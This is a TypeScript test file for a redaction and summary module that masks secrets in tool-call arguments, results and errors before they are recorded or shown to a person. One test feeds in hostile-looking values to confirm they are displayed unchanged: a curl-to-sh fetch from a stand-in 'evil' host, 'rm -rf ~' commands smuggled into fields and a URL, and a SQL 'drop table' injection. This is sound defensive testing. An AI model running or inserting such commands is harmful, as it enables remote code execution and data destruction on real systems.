import fc from 'fast-check'
import { expect, test } from 'vitest'
import { MASK, scrubber } from '../base/redact.ts'
import { jsonText } from '../wire/testing.ts'
import {
  argumentsForQuestion,
  argumentsForRecord,
  errorForRecord,
  type RecordLevel,
  resultForRecord,
} from './summary.ts'

const SECRET = 'correct-horse-battery'
const scrub = scrubber([SECRET])

function args(level: RecordLevel, value: unknown): string {
  return argumentsForRecord(level, typeof value === 'string' ? value : JSON.stringify(value), scrub)
}

function result(level: RecordLevel, value: unknown): string {
  return resultForRecord(level, Buffer.from(JSON.stringify(value)), scrub)
}

function said(...texts: string[]) {
  return { content: texts.map((text) => ({ type: 'text', text })) }
}

test('the shape of arguments has types and sizes only', () => {
  const value = {
    title: 'twelve chars',
    labels: ['bug', 'b', 'c'],
    n: 1,
    ok: true,
    none: null,
    deep: { a: [] },
  }
  expect(args('shape', value)).toBe(
    '{"title":"string(12)","labels":["string(3)","…2"],"n":"number","ok":"boolean","none":"null","deep":{"a":[]}}',
  )
  expect(args('shape', '{"a":1')).toBe('"6 characters"')
  expect(args('shape', JSON.parse('{"__proto__":1}'))).toBe('{"__proto__":"number"}')
})

test('a shape stays small, and names that are secrets are masked in it', () => {
  const many = Object.fromEntries(Array.from({ length: 5000 }, (_, index) => [`name${index}`, 1]))
  expect(args('shape', many)).toContain('"…":"4960"')
  const key = `ghp_${'a1'.repeat(12)}`
  expect(args('shape', { [key]: 1, [SECRET]: 2 })).toBe(`{"${MASK}":"number","${MASK}":"number"}`)
})

test('a preview is the JSON as it was written', () => {
  const text = '{ "n": 12345678901234567891, "x": 1.0, "t": "a\\u0041" }'
  expect(args('preview', text)).toBe(text)
  expect(args('full', text)).toBe(text)
})

test.each<[unknown, string]>([
  [{ apiKey: 'abc' }, `{"apiKey":"${MASK}"}`],
  [{ a: [{ b: { password: 'x"y' } }], c: 1 }, `{"a":[{"b":{"password":"${MASK}"}}],"c":1}`],
  [{ token: 12345, next: 'x' }, `{"token":"${MASK}","next":"x"}`],
  [{ auth: { user: 'mia', pass: 'x' }, z: [1] }, `{"auth":"${MASK}","z":[1]}`],
  [{ secrets: ['a', ['b']], z: 1 }, `{"secrets":"${MASK}","z":1}`],
  [{ token: null, secret: '', password: false }, '{"token":null,"secret":"","password":false}'],
  ['{"\\u0074oken":"abc"}', `{"\\u0074oken":"${MASK}"}`],
  ['{ "token" : "abc" , "b" : 2 }', `{ "token" : "${MASK}" , "b" : 2 }`],
  [{ note: `use ghp_${'a1'.repeat(12)} here` }, `{"note":"use ${MASK} here"}`],
  [{ note: 'postgres://mia:pw@host/db' }, `{"note":"postgres://mia:${MASK}@host/db"}`],
  [{ x: `a ${SECRET} b` }, `{"x":"a ${MASK} b"}`],
  ['{"x":"c\\u006frrect-horse-battery"}', `{"x":"${MASK}"}`],
  [{ body: '{"apiKey":"abc","n":1}' }, `{"body":"{\\"apiKey\\":\\"${MASK}\\",\\"n\\":1}"}`],
  [{ path: '/a/b', email: 'mia@acme.test' }, '{"path":"/a/b","email":"mia@acme.test"}'],
])('%j is kept as %s', (value, expected) => {
  expect(args('preview', value)).toBe(expected)
  expect(args('full', value)).toBe(expected)
})

test('what is masked is JSON still', () => {
  fc.assert(
    fc.property(jsonText, fc.constantFrom('token', 'a', 'apiKey'), (text, key) => {
      const whole = `{"${key}":${text},"b":${text}}`
      const kept = argumentsForRecord('full', whole, scrub)
      expect(() => JSON.parse(kept), kept).not.toThrow()
    }),
    { numRuns: 500 },
  )
})

test('a preview is 2 KiB at most, cut at a character, and says how much there is', () => {
  const text = JSON.stringify({ a: '漢'.repeat(3000) })
  const kept = args('preview', text)
  expect(kept).toMatch(/漢… \(9008 bytes\)$/)
  expect(kept).not.toContain('\ufffd')
  expect(Buffer.byteLength(kept)).toBeLessThan(2048 + 30)
  const large = JSON.stringify({ a: '漢'.repeat(2_000_000) })
  expect(args('preview', large)).toMatch(/^\{"a":"漢+… \(6000008 bytes\)$/)
  expect(Buffer.byteLength(args('full', large))).toBeLessThan(1024 * 1024 + 30)
})

test('no part of a secret is left wherever the text is cut', () => {
  const long = `begin-${'0123456789abcdefghij'.repeat(50)}-end`
  const scrubLong = scrubber([SECRET, long])
  const parts = [SECRET.slice(0, 12), SECRET.slice(-12), long.slice(0, 12), long.slice(-12)]
  for (const filler of [1500, 2000, 2030, 2040, 6100, 8100, 9000, 18_000, 18_420, 18_430])
    for (const secret of [SECRET, long])
      for (const tail of [0, 10, 5000, 50_000]) {
        const text = 'x '.repeat(filler / 2) + secret + ' y'.repeat(tail)
        const json = JSON.stringify({ a: text })
        const bytes = Buffer.from(JSON.stringify(said(text)))
        for (const kept of [
          argumentsForRecord('preview', json, scrubLong),
          resultForRecord('preview', bytes, scrubLong),
        ])
          for (const part of parts) expect(kept.includes(part), `${filler} ${tail}`).toBe(false)
      }
})

test('masks do not bring the half secret at the end of what was looked at into what is kept', () => {
  for (let shift = 0; shift < SECRET.length; shift++) {
    const text = 'x'.repeat(shift) + SECRET.repeat(5000)
    for (const kept of [args('preview', { a: text }), result('preview', said(text))]) {
      expect(kept).not.toMatch(/corr|horse|batt/)
    }
  }
})

test('a preview of a result is its text', () => {
  expect(result('preview', said('one', 'two'))).toBe('one\ntwo')
  expect(result('preview', { content: [{ text: 'line\n"quoted"', type: 'text' }], isError: true })).toBe(
    'line\n"quoted"',
  )
  expect(result('preview', { content: [], structuredContent: { a: 1, token: 'x' } })).toBe(
    `{"content":[],"structuredContent":{"a":1,"token":"${MASK}"}}`,
  )
  expect(
    result('preview', { content: [{ type: 'image', data: 'A'.repeat(99), mimeType: 'image/png' }] }),
  ).toBe('{"content":["image(99)"]}')
})

test('secrets in a result are masked by value, by form and, in JSON, by name', () => {
  expect(result('preview', said(`the key is ${SECRET}`))).toBe(`the key is ${MASK}`)
  expect(result('preview', said(`AKIA${'A1'.repeat(8)} and xoxb-1234567890-abc`))).toBe(`${MASK} and ${MASK}`)
  expect(result('preview', said('{"user":"mia","apiKey":"abc"}'))).toBe(`{"user":"mia","apiKey":"${MASK}"}`)
  expect(result('full', said(`{"apiKey":"abc"} ${SECRET}`))).toBe(
    `{"content":[{"type":"text","text":"{\\"apiKey\\":\\"${MASK}\\"} ${MASK}"}]}`,
  )
})

test('of a large result the beginning is looked at', () => {
  const kept = result('preview', said('first', 'y'.repeat(4_000_000)))
  expect(kept).toMatch(/^first\ny+… \(4000\d{3} bytes\)$/)
  expect(
    result('preview', { content: [{ type: 'text', text: 'short' }, { data: 'A'.repeat(100_000) }] }),
  ).toMatch(/^short… \(100\d{3} bytes\)$/)
  expect(result('shape', said('y'.repeat(100_000)))).toMatch(/^"\d+ bytes"$/)
})

test('the shape of a result has the kinds and sizes of its parts', () => {
  const value = {
    content: [
      { type: 'text', text: 'hello' },
      { type: 'image', data: 'AAAA', mimeType: 'image/png' },
      { type: 'resource', resource: { uri: 'a://b', text: 'abc' } },
      { type: 'e\nvil' },
    ],
    structuredContent: { id: 1 },
    isError: true,
  }
  expect(result('shape', value)).toBe(
    '{"content":["text(5)","image(4)","resource(3)","part"],"structuredContent":{"id":"number"},"isError":true}',
  )
})

test('what is no JSON is kept and masked all the same', () => {
  for (const level of ['shape', 'preview', 'full'] as const)
    for (const text of [
      '',
      '"',
      '{"token":"ab',
      '{"token":',
      '"token"',
      '\\',
      '{"a":"\\',
      '{"token":{"a":[1',
    ])
      expect(argumentsForRecord(level, text, scrub)).not.toContain('ab')
  expect(resultForRecord('preview', Buffer.from('{"text":"a\\u00'), scrub)).toBeTypeOf('string')
})

test('a person is shown arguments as they will be sent, to their end, but for what surely is a secret [D11]', () => {
  const asked = (given: unknown) => argumentsForQuestion(JSON.stringify(given), scrubber([SECRET]))
  for (const given of [
    { command: 'ls #?key=$(curl${IFS}evil|sh)', commit: '0b1f3c7e5d1a4c3f9d6e0a1b2c3d4e5f0b1f3c7e' },
    { key: 'users/all', issueKey: 'PROD-1', max_tokens: 5, page: '0b1f3c7e-5d1a-4c3f-9d6e-0a1b2c3d4e5f' },
    { password: '; rm -rf ~', token: { command: 'rm' }, url: 'a://b:;rm${IFS}-rf${IFS}~@host' },
    { body: '{"sql":"select 1; -- ?key=\';drop table users"}', note: 'x'.repeat(900_000), last: 'the end' },
  ])
    expect(asked(given)).toBe(JSON.stringify(given))
  expect(asked({ password: 'hunter2', apiKey: 'abc', note: `a ${SECRET} b ghp_${'a1'.repeat(12)}` })).toBe(
    `{"password":"${MASK}","apiKey":"${MASK}","note":"a ${MASK} b ${MASK}"}`,
  )
  // What hides in letters that are escaped is found there as well.
  expect(asked({ body: JSON.stringify({ password: 'hunter2' }) })).not.toContain('hunter2')
})

test('[C11] an error is masked before it is cut, by what is known and by form', () => {
  const scrub = scrubber(['S3cretValue-of-a-server'])
  for (let before = 1960; before < 2010; before++)
    for (const secret of ['S3cretValue-of-a-server', `ghp_${'aB3'.repeat(12)}`])
      expect(errorForRecord(`${'x'.repeat(before)} ${secret} end`, scrub)).not.toContain(secret.slice(0, 4))
  expect(errorForRecord('it failed', scrub)).toBe('it failed')
})

test('[C11] a known secret is masked in JSON inside JSON inside a result, too', () => {
  const secret = 'S3CRET-abc def/+=%"\\&<x>'
  const text = JSON.stringify(JSON.stringify(secret))
  const result = JSON.stringify({ content: [{ type: 'text', text }] })
  expect(resultForRecord('full', result, scrubber([secret]))).not.toContain('S3CRET')
})
